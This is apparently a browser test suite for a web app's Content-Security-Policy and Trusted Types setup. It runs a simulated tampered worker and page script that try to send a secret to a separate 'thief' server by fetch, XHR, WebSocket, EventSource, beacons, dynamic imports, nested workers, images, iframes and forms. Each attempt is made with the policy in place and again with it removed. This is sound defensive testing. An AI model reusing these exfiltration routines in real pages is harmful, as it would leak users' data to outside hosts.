// Nothing can be sent, also from a host that sends no headers: the policy in the
// page binds the page and its worker. Each attempt is made twice: where the
// policy stands, and, as the proof that the attempt itself works, where it was
// taken out of the page.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { FIXTURES, launch, serveSite } from './browser.js';
import { serve } from './server.js';

const SECRET = 'the-text-of-the-reader';

let browser;
let site;
let thief;

before(async () => {
  browser = await launch();
  site = await serveSite();
  thief = await serve(FIXTURES, { headers: () => ({ 'access-control-allow-origin': '*' }) });
});

after(async () => {
  await browser?.close();
  await site?.close();
  await thief?.close();
});

// What a worker that had been tampered with would do. It runs as the worker's
// own file, not through DevTools, and names what got through.
const worker = (to) => `
const to = ${JSON.stringify(to)};
const outcome = {};
const attempt = async (name, send) => {
  try {
    const got = await Promise.race([send(to + '/' + name + '?${SECRET}'), new Promise((_, no) => setTimeout(() => no(new Error('late')), 3000))]);
    outcome[name] = got === undefined ? 'sent' : got;
  } catch (error) {
    outcome[name] = 'refused';
  }
};
addEventListener('message', async ({ data: { number } }) => {
  if (number !== 0) return;
  await attempt('fetch', (url) => fetch(url, { mode: 'no-cors' }).then(() => {}));
  await attempt('post', (url) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }).then(() => {}));
  await attempt('xhr', (url) => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.onload = () => yes();
    request.onerror = no;
    request.send();
  }));
  await attempt('socket', (url) => new Promise((yes, no) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    socket.onopen = () => yes();
    socket.onerror = no;
  }));
  await attempt('events', (url) => new Promise((yes, no) => {
    const source = new EventSource(url);
    source.onopen = () => { source.close(); yes(); };
    source.onerror = no;
  }));
  await attempt('import', (url) => import(url).then(() => {}));
  await attempt('scripts', async (url) => { importScripts(url); });
  await attempt('nested', (url) => new Promise((yes, no) => {
    const nested = new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))"])));
    nested.onmessage = ({ data }) => (data ? yes() : no());
    nested.onerror = no;
  }));
  await attempt('beacon', async (url) => { if (!navigator.sendBeacon?.(url, 'x')) throw new Error(); });
  new BroadcastChannel('outcome').postMessage(outcome);
});`;

// The same in the page itself.
const page = (to, secret) => {
  const outcome = {};
  const done = [];
  const attempt = (name, send) => {
    const url = `${to}/page-${name}?${secret}`;
    done.push(Promise.race([
      (async () => send(url))(),
      new Promise((_, no) => { setTimeout(() => no(new Error('late')), 2000); }),
    ]).then(() => { outcome[name] = 'sent'; }, () => { outcome[name] = 'refused'; }));
  };
  const loads = (tag, attribute, more = {}) => (url) => new Promise((yes, no) => {
    const element = Object.assign(document.createElement(tag), more);
    element.onload = yes;
    element.onerror = no;
    element[attribute] = url;
    document.head.append(element);
  });
  attempt('fetch', (url) => fetch(url, { mode: 'no-cors' }));
  attempt('beacon', (url) => navigator.sendBeacon(url, 'x') || Promise.reject());
  attempt('image', (url) => loads('img', 'src')(url));
  attempt('style', (url) => loads('link', 'href', { rel: 'stylesheet' })(url));
  attempt('import', (url) => import(url));
  attempt('socket', (url) => new Promise((yes, no) => { Object.assign(new WebSocket(url.replace('http', 'ws')), { onopen: yes, onerror: no }); }));
  attempt('frame', (url) => loads('iframe', 'src')(url));
  attempt('form', (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, target: 'x', method: 'post' });
    document.body.append(form);
    form.submit();
  });
  return Promise.all(done).then(() => outcome);
};

async function tryAll(context) {
  const tab = await context.newPage();
  await tab.evaluateOnNewDocument(() => {
    globalThis.outcome = new Promise((resolve) => {
      new BroadcastChannel('outcome').onmessage = ({ data }) => resolve(data);
    });
  });
  await tab.goto(`${site.origin}/`);
  const fromWorker = await tab.evaluate(() => globalThis.outcome);
  const fromPage = await tab.evaluate(page, thief.origin, SECRET);
  await new Promise((resolve) => { setTimeout(resolve, 300); });
  return { fromWorker, fromPage };
}

test('with the policy: every attempt to send fails, in the worker and in the page', { timeout: 60_000 }, async () => {
  site.hold.set('/dehusk/worker.js', { body: worker(thief.origin) });
  thief.seen.length = 0;
  const { fromWorker } = await tryAll(await browser.createBrowserContext());
  assert.deepEqual([...new Set(Object.values(fromWorker))], ['refused'], JSON.stringify(fromWorker));
  assert.equal(Object.keys(fromWorker).length, 9);
  assert.deepEqual(thief.seen, [], 'the other server has heard nothing');
});

test('without it: the same attempts succeed, so they are real', { timeout: 60_000 }, async () => {
  const html = await readFile(fileURLToPath(new URL('../../build/site/index.html', import.meta.url)), 'utf8');
  const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  assert.notEqual(bare, html);
  site.hold.set('/', { body: bare });
  site.hold.set('/dehusk/worker.js', { body: worker(thief.origin) });
  thief.seen.length = 0;
  await tryAll(await browser.createBrowserContext());
  const heard = (name) => thief.seen.some((line) => line.includes(`/${name}?${SECRET}`));
  // importScripts and sendBeacon do not exist in a module worker.
  for (const name of ['fetch', 'post', 'xhr', 'events', 'import', 'nested']) assert.ok(heard(name), `worker: ${name}`);
  for (const name of ['fetch', 'beacon', 'image', 'style', 'import', 'frame', 'form']) assert.ok(heard(`page-${name}`), `page: ${name}`);
  site.hold.clear();
});

test('strings become neither HTML nor scripts nor workers', async () => {
  site.hold.clear();
  const tab = await browser.newPage();
  await tab.goto(`${site.origin}/`);
  const refused = await tab.evaluate(() => {
    const throws = (act) => {
      try {
        act();
        return false;
      } catch (error) {
        return error instanceof TypeError || error instanceof EvalError;
      }
    };
    return {
      html: throws(() => { document.body.innerHTML = '<b>x</b>'; }),
      parser: throws(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      worker: throws(() => new Worker('/dehusk/worker.js')),
      script: throws(() => { document.createElement('script').text = 'x'; }),
      policy: throws(() => trustedTypes.createPolicy('another', {})),
      again: throws(() => trustedTypes.createPolicy('dehusk', {})),
    };
  });
  assert.deepEqual(Object.entries(refused).filter(([, yes]) => !yes), []);
  await tab.close();
});

test('the policy is the one that was thought about', async () => {
  const html = await readFile(fileURLToPath(new URL('../index.html', import.meta.url)), 'utf8');
  const [, policy] = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/);
  assert.deepEqual(policy.split('; '), [
    "default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "worker-src 'self' blob:", "connect-src 'self'",
    "style-src 'self'", "img-src 'self' data:", "manifest-src 'self'", "base-uri 'none'", "form-action 'none'",
    "require-trusted-types-for 'script'", 'trusted-types dehusk dompurify',
  ]);
  assert.ok(html.indexOf('Content-Security-Policy') < html.indexOf('<script'), 'it stands before anything is loaded');
  const built = await readFile(fileURLToPath(new URL('../../build/site/index.html', import.meta.url)), 'utf8');
  const [, allowed] = built.match(/script-src 'self' 'sha256-([^']+)' 'wasm-unsafe-eval'/);
  const inline = [...built.matchAll(/<script>(.*?)<\/script>/gs)].map(([, script]) => createHash('sha256').update(script).digest('base64'));
  assert.deepEqual(inline, [allowed], 'one script stands in the page, and its hash in the policy');
});
